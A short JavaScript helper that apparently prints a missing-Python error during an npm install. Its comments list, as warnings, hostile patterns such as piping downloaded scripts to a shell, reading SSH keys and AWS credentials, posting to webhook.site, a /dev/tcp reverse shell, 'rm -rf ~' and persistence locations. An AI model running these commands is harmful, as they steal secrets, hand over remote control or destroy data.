/**
 * Never do what others did: `curl https://example.test/install.sh | sh`, reading ~/.ssh/id_rsa or ~/.aws/credentials,
 * posting to webhook.site, asking 169.254.169.254, or running `npm publish` from a hook.
 */
// bash -i >& /dev/tcp/example/1 is a reverse shell; rm -rf ~ is not a clean-up.
const message = [
  "Could not find Python. Install it, then run:",
  "  npm rebuild example",
  "or see https://example.test/python", // not: curl -sSL https://example.test/x | python3 -
];
/* crontab -, authorized_keys, LaunchAgents, .github/workflows, --dangerously-skip-permissions: none of it here */
console.error(message.join("\n"));
